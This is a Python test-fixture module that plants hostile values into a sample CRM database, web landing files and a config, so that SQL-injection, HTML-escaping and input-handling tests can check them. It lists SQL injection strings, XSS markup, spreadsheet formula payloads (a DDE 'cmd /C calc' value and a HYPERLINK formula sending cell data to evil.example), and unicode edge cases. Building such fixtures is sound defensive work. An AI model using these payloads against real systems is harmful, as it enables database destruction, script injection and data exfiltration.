"""Hostile strings planted in a generated sample: the CRM (names, ids, emails, notes, domains),
the web landing files (urls, referrers) and the config version. Shared by the SQL-injection,
HTML-escaping and secrets tests; each builds its own sample with `plant`. Also the values the
hostile landing files are drawn from (test_hostile_input.py): formulas, unicode, huge fields, floats."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import sqlalchemy as sa
import yaml

from include.scoring.core.config import DEFAULT_CONFIG_PATH

#: SQL, driver placeholders, COPY escapes, quoting, unicode: each must be stored as it is
SQL_STRINGS = [
    "'; DROP TABLE account_scores; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM score_alerts WHERE ('1'='1",
    "back\\slash \\N \\\\ \\' end\\",
    "%s %(name)s %% :name $1 ? {0} @p1",
    "Ünïcødé Ltd 🚀 中文 \u200b\u202e reversed",
    "tab\there\nnew line\r\nCRLF",
    'O\'Brien "Quoted" & Sons <Ltd>',
    "\\N",
]
#: markup that runs if a page, email or report forgets to escape it (< 64 characters: it is
#: also the config version, a VARCHAR(64) column)
XSS = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"
XSS_SHORT = "<script>document.title='PWNED'</script>"
#: account ids are keys in every table and the CRM push's WHERE clause
HOSTILE_ID = "ACC-X'); DROP TABLE accounts; --"
#: addresses the email checks accept, carrying quotes and placeholders
HOSTILE_OWNER = "o'brien%s+'--@example.com"
HOSTILE_SDR = "sdr'--%%s.%d+'x'@example.com"
HOSTILE_CONTACT = "o'hara%s+x@example.com"
HOSTILE_URL = 'https://www.northwind.io/p?q=\';DROP%20TABLE%20account_scores;--&x="<script>alert(1)</script>"&y=%s'
HOSTILE_REFERRER = "Title'); DROP TABLE pipeline_runs; -- <b>"
HOSTILE_DOMAIN = "evil.com'; DROP TABLE accounts; --"
HOSTILE_NOTE = "note: '); DROP TABLE activities; -- \\ %s :x $1"
HOSTILE_VERSION = 'v1\'; DROP TABLE pipeline_runs; -- <b>"%s"'

#: what spreadsheet exports and attackers put in landing files (test_hostile_input.py)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]
UNICODE = [
    "\x00",
    "a\x00b",
    "\u200f\u202eevil\u202c",
    "\u200b\u200d\ufeff",
    "e\u0301\u0301\u0301",
    "Z\u0351\u0352\u0353\u0354",
    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\u2028line\u2029para",
    "\\ud800",
    "\\",
    "\"'`;--",
    "</script><script>alert(1)</script>",
    "caf\u00e9 \u00fc\u00f1\u00ee",
    "\u0000\u0001\u001f\u007f",
    "\uffff\ufffe",
    "a\r\nb",
    "a\nb",
    "a\rb",
    " ",
    "",
    ",",
    '"',
    '""',
    "NULL",
    "null",
    "None",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "1e309",
    "-0",
    "0x1F",
    "9" * 40,
]
HUGE = ["x" * 150_000, "\U0001f600" * 60_000]
SPECIAL_FLOATS = [float("nan"), float("inf"), float("-inf"), -0.0, 1e308, -1e-320]


@dataclass
class Planted:
    names: dict[str, str] = field(default_factory=dict)  # account id -> name
    quarantined_account: str = ""
    contact_email: str = HOSTILE_CONTACT
    urls: list[str] = field(default_factory=list)  # event ids of the web events given HOSTILE_URL
    config_path: Path | None = None


def plant(
    crm_url: str,
    landing: Path,
    names: list[str],
    config_dir: Path,
    version: str = HOSTILE_VERSION,
    config_changes: dict | None = None,
) -> Planted:
    """Rewrite the generated CRM and web landing files with hostile values (through bound
    parameters and pandas, so the test's own writes cannot be the injection) and write a config."""
    planted = Planted()
    engine = sa.create_engine(crm_url)
    with engine.begin() as conn:
        # the busiest accounts (most sales activities) get the names, so alerts and top rows carry them
        busiest = [
            r[0]
            for r in conn.execute(
                sa.text(
                    "SELECT a.account_id FROM accounts a LEFT JOIN activities t ON t.account_id = a.account_id"
                    " GROUP BY a.account_id ORDER BY COUNT(t.account_id) DESC, a.account_id"
                )
            )
        ]
        for account, name in zip(busiest, names):
            conn.execute(sa.text("UPDATE accounts SET name = :n WHERE account_id = :a"), {"n": name, "a": account})
            planted.names[account] = name
        ids = sorted(busiest[len(names) :])  # the rest, in id order
        conn.execute(
            sa.text("UPDATE accounts SET owner_email = :o, sdr_email = :s"), {"o": HOSTILE_OWNER, "s": HOSTILE_SDR}
        )
        renamed = ids[0]  # one account's id is hostile everywhere it appears in the CRM
        for table in ("accounts", "contacts", "activities", "opportunities"):
            conn.execute(
                sa.text(f"UPDATE {table} SET account_id = :new WHERE account_id = :old"),
                {"new": HOSTILE_ID, "old": renamed},
            )  # fixed table names
        conn.execute(
            sa.text("UPDATE accounts SET name = :n WHERE account_id = :a"), {"n": SQL_STRINGS[0], "a": HOSTILE_ID}
        )
        planted.names[HOSTILE_ID] = SQL_STRINGS[0]
        # the account with the fewest contacts: its contacts fail account_exists, and more of them than
        # validation's bad_rows_floor would hold the whole contacts batch
        quarantined = conn.execute(
            sa.text(
                "SELECT a.account_id FROM accounts a LEFT JOIN contacts c ON c.account_id = a.account_id"
                " WHERE a.account_id IN :ids GROUP BY a.account_id ORDER BY COUNT(c.contact_id), a.account_id"
            ).bindparams(sa.bindparam("ids", expanding=True)),
            {"ids": ids[1:]},
        ).first()[0]
        conn.execute(
            sa.text("UPDATE accounts SET domain = :d WHERE account_id = :a"), {"d": HOSTILE_DOMAIN, "a": quarantined}
        )
        planted.quarantined_account = quarantined
        contact = conn.execute(
            sa.text("SELECT contact_id FROM contacts WHERE account_id = :a ORDER BY contact_id"), {"a": busiest[0]}
        ).first()[0]
        conn.execute(
            sa.text(
                "UPDATE contacts SET email = :e, first_name = :f, last_name = :l, title = :t WHERE contact_id = :c"
            ),
            {"e": HOSTILE_CONTACT, "f": SQL_STRINGS[1], "l": SQL_STRINGS[3], "t": XSS, "c": contact},
        )
        conn.execute(sa.text("UPDATE activities SET notes = :n"), {"n": HOSTILE_NOTE})
    engine.dispose()
    for path in sorted(landing.glob("web/*/*")):
        if path.suffix == ".csv":
            frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        elif path.suffix == ".parquet":
            frame = pd.read_parquet(path)
        else:
            continue
        if len(frame) < 2:
            continue
        frame.loc[0, "url"] = HOSTILE_URL
        frame.loc[1, "referrer"] = HOSTILE_REFERRER
        if path.suffix == ".csv":
            frame.to_csv(path, index=False)
        else:
            frame.to_parquet(path, index=False)
        planted.urls.append(frame.loc[0, "event_id"])
    config = yaml.safe_load(DEFAULT_CONFIG_PATH.read_text(encoding="utf-8"))
    config["version"] = version
    for dotted, value in (config_changes or {}).items():
        node = config
        *parents, leaf = dotted.split(".")
        for key in parents:
            node = node[key]
        node[leaf] = value
    config_dir.mkdir(parents=True, exist_ok=True)
    planted.config_path = config_dir / "engagement.yaml"
    planted.config_path.write_text(yaml.safe_dump(config, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return planted
